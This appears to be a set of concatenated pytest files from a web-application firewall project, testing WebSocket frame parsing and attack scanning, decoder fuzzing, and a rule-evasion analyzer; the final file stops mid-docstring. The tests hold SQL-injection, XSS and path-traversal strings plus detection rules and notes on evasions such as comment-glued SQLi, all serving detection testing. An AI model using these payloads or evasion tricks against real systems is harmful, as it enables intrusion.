    safe_blocking greylist/neutral, client-ip spoof stripping, ACL deny
    — with refcount invariants — plus ws_begin gating, per-read capture
    with a cross-frame attack, sticky tunnel abort, and stream end."""
    out = subprocess.run([str(HARNESS), harness_stack],
                         capture_output=True, text=True, timeout=120)
    sys.stderr.write(out.stdout)
    assert out.returncode == 0, out.stdout + out.stderr
    lines = [l for l in out.stdout.splitlines() if l]
    assert lines[-1] == "HARNESS-OK"
    assert sum(1 for l in lines if l.startswith("ok ")) >= 20
    # the r04-item-5 websocket scenarios specifically (the module's
    # least-executed code before round 5): every one must have run
    for want in ("ok ws_upgrade_request_passes", "ok ws_begin_on_upgrade",
                 "ok ws_benign_frame_passes", "ok ws_attack_aborts_tunnel",
                 "ok ws_sticky_verdict", "ok ws_end_marks_ended",
                 "ok ws_s2c_frame_scanned",
                 "ok ws_begin_gated_by_directive",
                 "ok ws_begin_requires_upgrade_header"):
        assert want in lines, want
