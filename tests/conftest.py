"""Test bootstrap: force CPU with 8 virtual devices.

This is the kind-cluster analog from SURVEY.md §4: multi-chip sharding
logic is exercised on a virtual 8-device CPU mesh so CI needs no TPU.

NOTE: env vars alone are NOT enough here.  The machine's
/root/.axon_site/sitecustomize.py imports jax at interpreter startup
(registering the remote-TPU 'axon' plugin), so JAX_PLATFORMS is read long
before pytest loads this file.  Backends initialize lazily though, so
updating jax.config before the first computation still wins.
"""

import os

flags = os.environ.get("XLA_FLAGS", "")
if "xla_force_host_platform_device_count" not in flags:
    os.environ["XLA_FLAGS"] = (
        flags + " --xla_force_host_platform_device_count=8"
    ).strip()

import jax  # noqa: E402

jax.config.update("jax_platforms", "cpu")
