"""Test bootstrap: force CPU with 8 virtual devices.

This is the kind-cluster analog from SURVEY.md §4: multi-chip sharding
logic is exercised on a virtual 8-device CPU mesh so CI needs no TPU.
The platform-forcing recipe (and why env vars alone don't work on this
machine) lives in ingress_plus_tpu/utils/platform.py.
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from ingress_plus_tpu.utils.platform import force_cpu_devices  # noqa: E402

force_cpu_devices(8)
