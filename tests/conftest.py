"""Test bootstrap: force CPU with 8 virtual devices BEFORE jax import.

This is the kind-cluster analog from SURVEY.md §4: multi-chip sharding logic
is exercised on a virtual 8-device CPU mesh so CI needs no TPU.
"""

import os

# Force CPU even if the shell exports JAX_PLATFORMS=axon (the real chip):
# unit tests must be hermetic; TPU benches live in bench.py, not tests/.
os.environ["JAX_PLATFORMS"] = "cpu"
flags = os.environ.get("XLA_FLAGS", "")
if "xla_force_host_platform_device_count" not in flags:
    os.environ["XLA_FLAGS"] = (
        flags + " --xla_force_host_platform_device_count=8"
    ).strip()
