"""WebSocket analysis path (wallarm_parse_websocket analog).

Three tiers, mirroring SURVEY.md §4: pure-unit RFC 6455 parser tests,
in-process WSStream ⇄ Batcher scanning tests, and a subprocess serve-loop
e2e driving WTPI frames over a real UDS.
"""

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.batcher import Batcher
from ingress_plus_tpu.serve.websocket import (
    DIR_C2S,
    DIR_S2C,
    OP_BINARY,
    OP_CLOSE,
    OP_CONT,
    OP_PING,
    OP_TEXT,
    WSError,
    WSFrameParser,
    WSStream,
)

REPO = Path(__file__).resolve().parent.parent

RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule RESPONSE_BODY "@rx (?i)you have an error in your sql syntax" \
    "id:951100,phase:4,block,t:lowercase,severity:CRITICAL,tag:'attack-leak'"
"""


def ws_frame(payload: bytes, opcode: int = OP_TEXT, fin: bool = True,
             mask: bytes = b"", rsv: int = 0) -> bytes:
    """Build one RFC 6455 wire frame (test-side encoder — the framework
    deliberately only ships a parser; production frames come from real
    ws peers through the capture point)."""
    b0 = (0x80 if fin else 0) | (rsv << 4) | opcode
    n = len(payload)
    head = bytearray([b0])
    m = 0x80 if mask else 0
    if n < 126:
        head.append(m | n)
    elif n < 1 << 16:
        head.append(m | 126)
        head += n.to_bytes(2, "big")
    else:
        head.append(m | 127)
        head += n.to_bytes(8, "big")
    if mask:
        assert len(mask) == 4
        head += mask
        payload = bytes(c ^ mask[i & 3] for i, c in enumerate(payload))
    return bytes(head) + payload


# ---------------------------------------------------------- parser unit

def test_parser_masked_roundtrip():
    p = WSFrameParser()
    out = p.feed(ws_frame(b"hello world", mask=b"\x01\x02\x03\x04"))
    assert out == [(True, OP_TEXT, b"hello world")]


def test_parser_unmasked_and_binary():
    p = WSFrameParser()
    out = p.feed(ws_frame(b"\x00\xffdata", opcode=OP_BINARY))
    assert out == [(True, OP_BINARY, b"\x00\xffdata")]


def test_parser_byte_at_a_time():
    wire = ws_frame(b"fragmented feed", mask=b"abcd")
    p = WSFrameParser()
    got = []
    for i in range(len(wire)):
        got += p.feed(wire[i:i + 1])
    assert got == [(True, OP_TEXT, b"fragmented feed")]


@pytest.mark.parametrize("n", [125, 126, 300, 65535, 65536, 70000])
def test_parser_length_encodings(n):
    payload = bytes(i & 0xFF for i in range(n))
    p = WSFrameParser()
    out = p.feed(ws_frame(payload, mask=b"\x10\x20\x30\x40"))
    assert out == [(True, OP_TEXT, payload)]


def test_parser_multiple_frames_one_feed():
    wire = (ws_frame(b"one", fin=False)
            + ws_frame(b"two", opcode=OP_CONT)
            + ws_frame(b"", opcode=OP_PING))
    assert WSFrameParser().feed(wire) == [
        (False, OP_TEXT, b"one"), (True, OP_CONT, b"two"),
        (True, OP_PING, b"")]


@pytest.mark.parametrize("bad", [
    ws_frame(b"x", rsv=4),                         # RSV1 (permessage-deflate)
    ws_frame(b"x", opcode=OP_CLOSE, fin=False),    # fragmented control
    bytes([0x81, 126, 0, 100]) + b"a" * 100,       # non-minimal 16-bit len
    bytes([0x81, 127]) + (100).to_bytes(8, "big") + b"a" * 100,  # 64-bit
    ws_frame(b"x", opcode=0x3),                    # reserved opcode
])
def test_parser_protocol_errors(bad):
    with pytest.raises(WSError):
        WSFrameParser().feed(bad)


def test_parser_frame_size_bound():
    head = bytes([0x81, 127]) + (1 << 30).to_bytes(8, "big")
    with pytest.raises(WSError):
        WSFrameParser(max_frame=1 << 20).feed(head)


# ------------------------------------------------------ WSStream + scan

@pytest.fixture(scope="module")
def batcher():
    pipeline = DetectionPipeline(compile_ruleset(parse_seclang(RULES)),
                                 mode="block")
    b = Batcher(pipeline, max_batch=32, max_delay_s=0.001)
    yield b
    b.close()


def _verdicts(pairs, timeout=30):
    return [fut.result(timeout=timeout) for _, fut in pairs]


def test_ws_attack_message_fragmented(batcher):
    """A masked sqli payload split across fragments AND feeds — carried
    NFA state must still match the pattern spanning the split."""
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=1)
    part1 = ws_frame(b'{"q": "1 union ', fin=False, mask=b"abcd")
    part2 = ws_frame(b'select password"}', opcode=OP_CONT, mask=b"wxyz")
    assert ws.feed(DIR_C2S, part1) == []
    pairs = ws.feed(DIR_C2S, part2)
    assert len(pairs) == 1
    v = _verdicts(pairs)[0]
    assert v.attack and v.blocked
    assert "sqli" in v.classes
    ws.merge(v)
    assert ws.verdict(99).attack  # sticky on later frames


def test_ws_benign_and_ping(batcher):
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=2)
    wire = (ws_frame(b"", opcode=OP_PING)
            + ws_frame(b"hello, perfectly normal chat message")
            + ws_frame(b"", opcode=OP_CLOSE))
    pairs = ws.feed(DIR_C2S, wire)
    assert len(pairs) == 1
    v = _verdicts(pairs)[0]
    assert not v.attack and not v.fail_open
    assert ws.dirs[DIR_C2S].closed


def test_ws_server_to_client_leak(batcher):
    """Response-direction messages scan the resp_body stream → 95x leak
    families fire; request families must NOT (stream separation)."""
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=3)
    pairs = ws.feed(DIR_S2C, ws_frame(
        b"You have an error in your SQL syntax near 'x'"))
    v = _verdicts(pairs)[0]
    assert v.attack and "leak" in v.classes
    # the same text client->server carries no leak rule target
    ws2 = WSStream(batcher, tenant=0, mode=2, stream_id=4)
    pairs2 = ws2.feed(DIR_C2S, ws_frame(
        b"You have an error in your SQL syntax near 'x'"))
    assert not _verdicts(pairs2)[0].attack


def test_ws_monitoring_mode(batcher):
    ws = WSStream(batcher, tenant=0, mode=1, stream_id=5)
    pairs = ws.feed(DIR_C2S, ws_frame(b"1 union select 2", mask=b"mmmm"))
    v = _verdicts(pairs)[0]
    assert v.attack and not v.blocked


def test_ws_poison_fails_open(batcher):
    """Protocol violation → no more scanning, verdicts carry fail_open
    (the tri-layer fail-open contract: never block on parser trouble)."""
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=6)
    ws.feed(DIR_C2S, ws_frame(b"x", rsv=4))
    assert ws.poisoned
    v = ws.verdict(1)
    assert v.fail_open and not v.blocked
    assert ws.feed(DIR_C2S, ws_frame(b"1 union select 2")) == []


def test_ws_interleaved_data_frame_poisons(batcher):
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=7)
    ws.feed(DIR_C2S, ws_frame(b"start", fin=False))
    ws.feed(DIR_C2S, ws_frame(b"new message mid-fragment"))  # RFC §5.4
    assert ws.poisoned


def test_ws_close_finalizes_open_message(batcher):
    """An attacker must not escape scanning by withholding FIN."""
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=8)
    ws.feed(DIR_C2S, ws_frame(b"1 union select 2", fin=False, mask=b"aaaa"))
    pairs = ws.close()
    assert len(pairs) == 1
    v = _verdicts(pairs)[0]
    assert v.attack and "sqli" in v.classes


def test_ws_msg_cap_truncation_flags(batcher):
    """Bytes beyond msg_cap pass unscanned but the verdict surfaces it
    (pass-and-flag, never a silent miss)."""
    ws = WSStream(batcher, tenant=0, mode=2, stream_id=9, msg_cap=64)
    payload = b"A" * 80 + b"1 union select 2"
    pairs = ws.feed(DIR_C2S, ws_frame(payload))
    v = _verdicts(pairs)[0]
    assert not v.attack      # pattern fell beyond the cap
    assert v.fail_open       # truncation surfaced


def test_ws_gzip_binary_message_unpacked(batcher):
    """A gzip-wrapped attack in a binary message is inflated by the
    stream engine's magic-byte sniff (unpack parity with HTTP bodies)."""
    import gzip

    ws = WSStream(batcher, tenant=0, mode=2, stream_id=10)
    blob = gzip.compress(b'{"q": "1 union select password"}')
    pairs = ws.feed(DIR_C2S, ws_frame(blob, opcode=OP_BINARY))
    v = _verdicts(pairs)[0]
    assert v.attack and "sqli" in v.classes


# ------------------------------------------------------------- UDS e2e

@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("ws_serve")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(RULES)
    sock = str(tmp / "ipt.sock")
    spool = tmp / "spool"
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock, "--rules-dir", str(rules_dir),
         "--platform", "cpu", "--max-delay-us", "1000", "--no-warmup",
         "--spool-dir", str(spool), "--export-interval-s", "0.5"],
        cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
    for _ in range(600):
        if Path(sock).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(sock)
                s.close()
                break
            except OSError:
                pass
        if proc.poll() is not None:
            raise RuntimeError("server died: %s" % proc.stderr.read())
        time.sleep(0.1)
    else:
        proc.kill()
        raise RuntimeError("server socket never appeared")

    class Srv(str):
        pass

    srv = Srv(sock)
    srv.spool = spool
    yield srv
    proc.terminate()
    proc.wait(timeout=10)


def _drive(sock_path, frames, want_ids, timeout=30):
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response)

    s = socket.socket(socket.AF_UNIX)
    s.settimeout(timeout)
    s.connect(sock_path)
    for f in frames:
        s.sendall(f)
    reader = FrameReader(RESP_MAGIC)
    got = {}
    while set(got) != set(want_ids):
        data = s.recv(1 << 16)
        assert data, "server closed early; got %s" % sorted(got)
        for payload in reader.feed(data):
            r = decode_response(payload)
            got[r["req_id"]] = r
    s.close()
    return got


def test_e2e_ws_attack_and_sticky(server):
    """Full wire path: fragmented masked attack message; the completing
    frame's verdict is the attack, and a later frame of the same stream
    reports it again (sticky)."""
    from ingress_plus_tpu.serve.protocol import encode_ws

    frames = [
        encode_ws(1, 500, ws_frame(b"1 union ", fin=False, mask=b"abcd")),
        encode_ws(2, 500, ws_frame(b"select 2", opcode=OP_CONT,
                                   mask=b"wxyz")),
        encode_ws(3, 500, ws_frame(b"later benign message")),
    ]
    got = _drive(server, frames, [1, 2, 3])
    assert not got[1]["attack"]          # mid-message: nothing completed
    assert got[2]["attack"] and got[2]["blocked"]
    assert "sqli" in got[2]["classes"]
    assert got[3]["attack"]              # sticky stream verdict


def test_e2e_ws_s2c_leak_and_end(server):
    from ingress_plus_tpu.serve.protocol import WS_DIR_S2C, WS_END, encode_ws

    frames = [
        encode_ws(10, 600, ws_frame(
            b"You have an error in your SQL syntax"), s2c=True),
        encode_ws(11, 600, b"", end=True),
    ]
    got = _drive(server, frames, [10, 11])
    assert got[10]["attack"] and "leak" in got[10]["classes"]
    assert got[11]["attack"]             # end frame reports sticky state


def test_e2e_ws_mode_off(server):
    from ingress_plus_tpu.serve.protocol import encode_ws

    frames = [encode_ws(20, 700, ws_frame(b"1 union select 2"), mode=0)]
    got = _drive(server, frames, [20])
    assert not got[20]["attack"] and not got[20]["fail_open"]


def test_e2e_ws_attack_reaches_postanalytics(server):
    """A flagged ws MESSAGE is recorded to the postanalytics channel
    (wallarm's Tarantool-export analog): the spooled attack record
    carries the per-message request id 'stream.msgIndex'."""
    from ingress_plus_tpu.serve.protocol import encode_ws

    got = _drive(server, [encode_ws(
        40, 901, ws_frame(b"1 union select spooled", mask=b"pqrs"))], [40])
    assert got[40]["attack"]
    deadline = time.time() + 15
    while time.time() < deadline:
        recs = []
        for f in sorted(server.spool.glob("attacks*.jsonl")):
            recs += [json.loads(l)
                     for l in f.read_text().splitlines() if l.strip()]
        hit = [r for r in recs
               if r["class"] == "sqli" and "901.0" in r["sample_request_ids"]]
        if hit:
            assert hit[0]["count"] >= 1 and hit[0]["blocked"] >= 1
            return
        time.sleep(0.25)
    raise AssertionError("ws attack never reached the spool: %s" % recs)


def test_e2e_ws_poison_fail_open(server):
    from ingress_plus_tpu.serve.protocol import encode_ws

    frames = [
        encode_ws(30, 800, ws_frame(b"x", rsv=4)),
        encode_ws(31, 800, ws_frame(b"1 union select 2")),
    ]
    got = _drive(server, frames, [30, 31])
    assert got[30]["fail_open"] or got[31]["fail_open"]
    assert not got[31]["attack"]         # poisoned: scanning stopped
