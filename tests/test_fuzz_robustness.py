"""Mutation/romdom-input robustness for the attacker-facing decoders.

The reference's native parsers (body unpacking, protobuf walking, wire
framing, SecLang loading) face hostile bytes by definition; this tier
fuzzes ours the way the libdetection differential fuzz covers the
confirm twins (SURVEY.md §4 test plan): seeded RNG (deterministic CI),
thousands of random + mutated inputs, and a single invariant — decoders
either return bounded output or raise their DECLARED error type.  No
other exception class, no hang, no unbounded amplification.
"""

import random
import zlib

import pytest

from ingress_plus_tpu.compiler.seclang import SecLangError, parse_seclang
from ingress_plus_tpu.serve.protocol import (
    REQ_MAGIC, FrameReader, ProtocolError, decode_request, encode_request)
from ingress_plus_tpu.serve.unpack import (
    DEFAULT_MAX_OUT, extract_json, extract_protobuf, extract_xml,
    inflate, split_grpc_frames, unpack_body)


def _mutate(rng: random.Random, data: bytes, n: int = 4) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(1, n)):
        if not buf:
            break
        op = rng.randrange(3)
        i = rng.randrange(len(buf))
        if op == 0:
            buf[i] ^= 1 << rng.randrange(8)      # bit flip
        elif op == 1:
            del buf[i:i + rng.randint(1, 16)]    # deletion
        else:
            buf[i:i] = bytes(rng.randrange(256)  # insertion
                             for _ in range(rng.randint(1, 8)))
    return bytes(buf)


def _seed_bodies():
    """Valid bodies of every kind the unpacker handles — the mutation
    corpus seeds."""
    import base64
    import gzip
    import json

    j = json.dumps({"q": "1' UNION SELECT", "nest": {"a": ["<script>", 1],
                                                     "b": "x" * 200}})
    x = "<r a='1\" OR 1=1'><b>body &amp; text</b><c/></r>"
    pb = (b"\x0a\x10" + b"q=union select x" +          # field 1: bytes
          b"\x12\x08" + b"\x0a\x06attack" +            # field 2: nested
          b"\x18\x2a")                                 # field 3: varint
    grpc = b"\x00" + len(pb).to_bytes(4, "big") + pb
    return [
        j.encode(), x.encode(), pb, grpc,
        gzip.compress(j.encode()), zlib.compress(x.encode()),
        base64.b64encode(j.encode()),
        b"a=1&b=" + b"%" * 30, b"\x00" * 64, b"",
    ]


HEADERS = [
    {},
    {"content-encoding": "gzip"},
    {"content-encoding": "deflate"},
    {"content-type": "application/json"},
    {"content-type": "text/xml"},
    {"content-type": "application/grpc+proto"},
    {"content-type": "application/grpc+json",
     "content-encoding": "gzip"},
]


def test_unpack_body_never_raises_and_is_bounded():
    rng = random.Random(1234)
    seeds = _seed_bodies()
    for i in range(3000):
        body = _mutate(rng, rng.choice(seeds))
        headers = rng.choice(HEADERS)
        out = unpack_body(body, headers)
        assert isinstance(out, bytes)
        # DoS bound: decoding can expand, but never past the cap plus
        # the original (worst case: cap-limited expansion concatenated
        # with pass-through segments)
        assert len(out) <= DEFAULT_MAX_OUT + len(body)


def test_individual_decoders_error_contract():
    rng = random.Random(99)
    seeds = _seed_bodies()
    for i in range(2000):
        blob = _mutate(rng, rng.choice(seeds))
        for fn in (inflate, extract_json, extract_xml, extract_protobuf):
            out = fn(blob)
            assert out is None or isinstance(out, bytes)
        frames = split_grpc_frames(blob)
        assert frames is None or isinstance(frames, list)
        for msg in frames or ():
            assert isinstance(msg, bytes)
            assert len(msg) <= DEFAULT_MAX_OUT


def test_protobuf_walker_depth_and_budget_bounded():
    # adversarial: deeply self-nested length-delimited fields
    inner = b"q=1 union select"
    blob = b"\x0a" + bytes([len(inner)]) + inner
    for _ in range(64):                      # 64 nesting levels
        if len(blob) > 120:
            break
        blob = b"\x0a" + bytes([len(blob)]) + blob
    out = extract_protobuf(blob)
    assert out is None or len(out) <= 1 << 20
    # varint flood
    out = extract_protobuf(b"\x08" * 4096)
    assert out is None or isinstance(out, bytes)


def test_frame_reader_survives_garbage_and_resyncs():
    from ingress_plus_tpu.serve.normalize import Request

    rng = random.Random(7)
    good = encode_request(Request(uri="/ok"), req_id=1)
    for i in range(500):
        reader = FrameReader(REQ_MAGIC)
        blob = _mutate(rng, good) + good
        # arbitrary chunking
        pos, frames, died = 0, [], False
        while pos < len(blob):
            n = rng.randint(1, 64)
            try:
                frames.extend(reader.feed(blob[pos:pos + n]))
            except ProtocolError:
                died = True     # declared error type: acceptable
                break
            pos += n
        if not died:
            for f in frames:
                try:
                    decode_request(f)
                except ProtocolError:
                    pass        # declared error type: acceptable


def test_seclang_parser_error_contract():
    rng = random.Random(31337)
    base = (
        'SecRule ARGS|REQUEST_BODY "@rx (?i)union\\s+select" '
        '"id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,'
        "severity:CRITICAL,tag:'attack-sqli'\"\n"
        'SecAction "id:900990,phase:1,pass,setvar:tx.crs_setup_version=330"\n'
        'SecRule REQUEST_URI "@pm etc passwd" "id:930120,phase:2,block"\n'
    )
    ok = bad = 0
    for i in range(800):
        text = _mutate(rng, base.encode(), n=6).decode("latin-1")
        try:
            rules = parse_seclang(text)
            ok += 1
            assert isinstance(rules, list)
        except SecLangError:
            bad += 1
        # any OTHER exception type propagates and fails the test
    assert ok and bad   # the corpus must exercise both outcomes


@pytest.mark.parametrize("chunk", [1, 3, 17])
def test_grpc_stream_feeder_on_mutated_frames(chunk):
    from ingress_plus_tpu.serve.unpack import IncrementalGrpc

    rng = random.Random(chunk)
    pb = b"\x0a\x06attack"
    frame = b"\x00" + len(pb).to_bytes(4, "big") + pb
    for i in range(300):
        blob = _mutate(rng, frame * 3)
        st = IncrementalGrpc()
        out = b""
        for p in range(0, len(blob), chunk):
            out += st.feed(blob[p:p + chunk])
        out += st.flush()
        assert isinstance(out, bytes)
        assert len(out) <= len(blob) + (16 << 20)
