"""evadecheck — the static evasion-closure analyzer (ISSUE 17) and its
runtime twin, the utils/evasion.py seeded mutation harness.

Every check class gets a FAILING synthetic fixture plus a clean
counterpart; the bundled CRS tree is pinned fully baselined at warning
severity (the evasiongate contract); the escapes the analyzer found and
this PR fixed (comment-glue SQLi, %-encoded raw-uri payloads, entity-
encoded header markup) are pinned by pipeline-level regressions; and the
harness itself is pinned deterministic (same seed => byte-identical
mutated corpus)."""

from __future__ import annotations

import ctypes
import json
from pathlib import Path

import pytest

from ingress_plus_tpu.analysis import run_evadecheck
from ingress_plus_tpu.analysis.evadecheck import BASELINE, FAMILY_CHECK
from ingress_plus_tpu.analysis.findings import Baseline
from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
from ingress_plus_tpu.models.libdetect import detect_sqli_py
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils.corpus import generate_corpus
from ingress_plus_tpu.utils.evasion import (
    MUTATION_FAMILIES,
    family_mutator,
    mutate_payload,
    mutation_harness,
    request_digest,
    retention_score,
)

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def pipeline():
    return DetectionPipeline(compile_ruleset(load_bundled_rules()),
                             mode="monitoring")


def _tree(tmp_path, text):
    (tmp_path / "rules.conf").write_text(text)
    return tmp_path


def _run(tmp_path, text, **kw):
    return run_evadecheck(rules_path=_tree(tmp_path, text),
                          baseline_path=None, **kw)


def _checks(report, severity=None):
    return {(f.check, f.subject) for f in report.findings
            if severity is None or f.severity == severity}


# ------------------------------------------- 1. evade.transform-closure


def test_raw_uri_without_decode_flagged(tmp_path):
    rep = _run(tmp_path,
               'SecRule REQUEST_URI "@rx (?i)/etc/passwd" '
               '"id:1,phase:1,block,severity:CRITICAL,tag:\'attack-lfi\'"')
    assert ("evade.transform-closure", "missing-url-decode") \
        in _checks(rep, "warning")


def test_raw_uri_with_decode_clean(tmp_path):
    rep = _run(tmp_path,
               'SecRule REQUEST_URI "@rx (?i)/etc/passwd" '
               '"id:1,phase:1,block,t:urlDecodeUni,severity:CRITICAL,'
               'tag:\'attack-lfi\'"')
    assert ("evade.transform-closure", "missing-url-decode") \
        not in _checks(rep)


def test_encoding_detector_exempt_from_decode_check(tmp_path):
    # a rule that MATCHES percent-forms models encoding by design
    rep = _run(tmp_path,
               'SecRule REQUEST_URI "@rx (?i)%2e%2e%2f" '
               '"id:1,phase:1,block,severity:CRITICAL,tag:\'attack-lfi\'"')
    assert ("evade.transform-closure", "missing-url-decode") \
        not in _checks(rep)


def test_xss_markup_without_html_decode_flagged(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?i)<script" '
               '"id:2,phase:2,block,severity:CRITICAL,tag:\'attack-xss\'"')
    assert ("evade.transform-closure", "missing-html-decode") \
        in _checks(rep, "notice")


def test_xss_markup_with_html_decode_clean(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?i)<script" '
               '"id:2,phase:2,block,t:htmlEntityDecode,'
               'severity:CRITICAL,tag:\'attack-xss\'"')
    assert ("evade.transform-closure", "missing-html-decode") \
        not in _checks(rep)


# ------------------------------------------- 2. evade.literal-fragility


def test_spaced_literal_without_comment_transform_flagged(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?i)union select" '
               '"id:3,phase:2,block,t:lowercase,severity:CRITICAL,'
               'tag:\'attack-sqli\'"')
    got = _checks(rep)
    assert ("evade.literal-fragility", "comment-severable") in got
    assert ("evade.literal-fragility", "whitespace-severable") in got


def test_comment_transform_silences_comment_severable(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?i)union select" '
               '"id:3,phase:2,block,t:lowercase,t:replaceComments,'
               't:compressWhitespace,severity:CRITICAL,'
               'tag:\'attack-sqli\'"')
    assert ("evade.literal-fragility", "comment-severable") \
        not in _checks(rep)
    assert ("evade.literal-fragility", "whitespace-severable") \
        not in _checks(rep)


def test_gapless_literal_not_fragile(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?i)xp_cmdshell" '
               '"id:3,phase:2,block,t:lowercase,severity:CRITICAL,'
               'tag:\'attack-sqli\'"')
    assert ("evade.literal-fragility", "comment-severable") \
        not in _checks(rep)


# ------------------------------------------------- 3. evade.case-hole


def test_case_sensitive_keyword_flagged(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx select.+from" '
               '"id:4,phase:2,block,severity:CRITICAL,'
               'tag:\'attack-sqli\'"')
    assert ("evade.case-hole", "case-sensitive-keyword") \
        in _checks(rep, "notice")


def test_lowercase_transform_silences_case_hole(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx select.+from" '
               '"id:4,phase:2,block,t:lowercase,severity:CRITICAL,'
               'tag:\'attack-sqli\'"')
    assert ("evade.case-hole", "case-sensitive-keyword") \
        not in _checks(rep)


def test_inline_ignorecase_silences_case_hole(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?i)select.+from" '
               '"id:4,phase:2,block,severity:CRITICAL,'
               'tag:\'attack-sqli\'"')
    assert ("evade.case-hole", "case-sensitive-keyword") \
        not in _checks(rep)


def test_wire_token_rule_exempt_from_case_hole(tmp_path):
    # REQUEST_METHOD is a case-sensitive wire token by HTTP grammar —
    # 'get' is not a miscased GET, it is a different (invalid) method
    rep = _run(tmp_path,
               'SecRule REQUEST_METHOD "@rx ^(?:CONNECT|TRACE)$" '
               '"id:5,phase:1,block,severity:CRITICAL,'
               'tag:\'attack-protocol\'"')
    assert ("evade.case-hole", "case-sensitive-keyword") \
        not in _checks(rep)
    assert ("evade.anchor-hazard", "start-anchored") not in _checks(rep)


# --------------------------------------------- 4. evade.anchor-hazard


def test_start_anchored_args_rule_flagged(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx ^(?:debug|admin)$" '
               '"id:6,phase:2,block,t:lowercase,severity:CRITICAL,'
               'tag:\'attack-protocol\'"')
    assert ("evade.anchor-hazard", "start-anchored") \
        in _checks(rep, "notice")


def test_unanchored_args_rule_clean(tmp_path):
    rep = _run(tmp_path,
               'SecRule ARGS "@rx (?:debug|admin)" '
               '"id:6,phase:2,block,t:lowercase,severity:CRITICAL,'
               'tag:\'attack-protocol\'"')
    assert ("evade.anchor-hazard", "start-anchored") not in _checks(rep)


def test_anchored_uri_rule_not_flagged(tmp_path):
    # uri rows start at the request line's fixed framing: the attacker
    # cannot pad in front of the method/path, so ^ is safe there
    rep = _run(tmp_path,
               'SecRule REQUEST_URI "@rx ^/admin" '
               '"id:6,phase:1,block,t:urlDecodeUni,severity:CRITICAL,'
               'tag:\'attack-protocol\'"')
    assert ("evade.anchor-hazard", "start-anchored") not in _checks(rep)


# ------------------------------------------------ corroboration plumbing


def test_runtime_escape_corroborates_static_finding(tmp_path):
    text = ('SecRule REQUEST_URI "@rx (?i)/etc/passwd" '
            '"id:1,phase:1,block,severity:CRITICAL,tag:\'attack-lfi\'"')
    escape = {"family": "url", "base_rule_ids": [1],
              "request_id": "atk-7", "attack_class": "lfi",
              "carrier": "path"}
    rep = _run(tmp_path, text, escapes=[escape])
    f = next(f for f in rep.findings
             if f.check == "evade.transform-closure" and f.rule_id == 1)
    assert f.severity == "error"
    assert "CORROBORATED" in f.message and "atk-7" in f.message
    assert rep.meta["corroborated"] == 1


def test_unrelated_escape_does_not_corroborate(tmp_path):
    text = ('SecRule REQUEST_URI "@rx (?i)/etc/passwd" '
            '"id:1,phase:1,block,severity:CRITICAL,tag:\'attack-lfi\'"')
    # comment-family escape maps to literal-fragility, not closure
    escape = {"family": "comment", "base_rule_ids": [1],
              "request_id": "atk-8"}
    rep = _run(tmp_path, text, escapes=[escape])
    f = next(f for f in rep.findings
             if f.check == "evade.transform-closure" and f.rule_id == 1)
    assert f.severity == "warning"
    assert rep.meta["corroborated"] == 0


def test_family_check_map_covers_every_family():
    assert set(FAMILY_CHECK) == set(MUTATION_FAMILIES)


# --------------------------------------------------- bundled-tree pins


def test_crs_tree_fully_baselined_at_warning():
    """The evasiongate contract: every surviving static finding on the
    bundled pack carries a reasoned baseline entry."""
    rep = run_evadecheck()
    assert rep.tool == "evadecheck"
    assert rep.n_rules > 200
    assert rep.gating("warning") == []
    assert rep.gating("info") == []  # notices/infos baselined too
    suppressed = [f for f in rep.findings if f.suppressed]
    assert suppressed, "baseline should be exercised, not empty"
    assert all(f.suppress_reason for f in suppressed)


def test_baseline_file_is_valid_and_fully_used():
    bl = Baseline.load(BASELINE)
    rep = run_evadecheck(baseline_path=None)
    # every entry matches at least one live finding — no stale entries
    for entry in bl.entries:
        solo = Baseline(entries=[entry])
        assert any(solo.match(f) for f in rep.findings), \
            "stale baseline entry: %r" % entry["reason"][:60]


def test_missing_tree_is_operational_error(tmp_path):
    with pytest.raises(OSError):
        run_evadecheck(rules_path=tmp_path / "nope", baseline_path=None)


# ------------------------------------- fixed-escape pipeline regressions


def test_comment_glue_sqli_detected(pipeline):
    """The comment-family escape this PR fixed: /**/ as keyword glue
